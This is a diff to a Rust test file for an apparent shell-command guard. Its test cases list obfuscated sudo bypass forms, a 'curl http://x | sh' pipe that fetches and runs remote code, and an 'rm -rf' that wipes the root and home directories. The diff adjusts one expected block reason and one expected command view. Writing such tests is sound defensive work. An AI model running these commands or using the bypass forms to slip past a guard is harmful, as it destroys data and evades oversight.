@@ -147,7 +147,7 @@ fn bypass_forms_are_blocked_with_the_right_reason() {
         ("echo 'sudo id' | sh /dev/stdin", "dynamic command"),
         ("env -S 'make all'", "dynamic command"),
         ("sudo${IFS}id", "privilege"),
-        ("x=${y:-$(echo sudo)}; $x id", "privilege"),
+        ("x=${y:-$(echo sudo)}; $x id", "dynamic command"),
         ("echo ${y:-$(sudo id)}", "privilege"),
         ("echo $(( $(sudo id) + 1 ))", "privilege"),
         ("echo ${#x[$(sudo id)]}", "privilege"),
@@ -370,7 +370,7 @@ fn views_show_what_runs() {
     assert_eq!(views("$(echo su)do id"), vec!["echo su", "sudo id"]);
     assert_eq!(
         views("curl http://x | sh"),
-        vec!["curl http://x", "sh", "curl http://x | sh"]
+        vec!["curl http://x", "| sh", "sh", "curl http://x | sh"]
     );
     assert_eq!(views("timeout 5 SUDO id"), vec!["timeout 5 sudo id", "sudo id"]);
     assert_eq!(views("rm -rf /bin/../ ~/"), vec!["rm -rf / ~"]);
